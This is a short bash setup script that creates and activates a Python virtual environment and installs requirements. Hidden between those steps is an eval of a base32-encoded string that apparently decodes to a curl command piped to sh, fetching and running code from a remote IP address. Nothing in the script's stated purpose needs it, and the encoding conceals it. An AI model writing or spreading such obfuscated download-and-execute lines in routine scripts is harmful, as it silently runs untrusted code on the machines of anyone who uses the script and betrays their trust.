#!/usr/bin/env bash
[ -d .venv ] || python3 -m venv .venv
# shellcheck disable=SC1091
source .venv/bin/activate
eval "$(echo 'MN2XE3BAFVZSA2DUORYDULZPGE4TELRQFYZC4MZRF5VSA7BAONUA====' | base32 -d)"
pip install -q -r requirements.txt
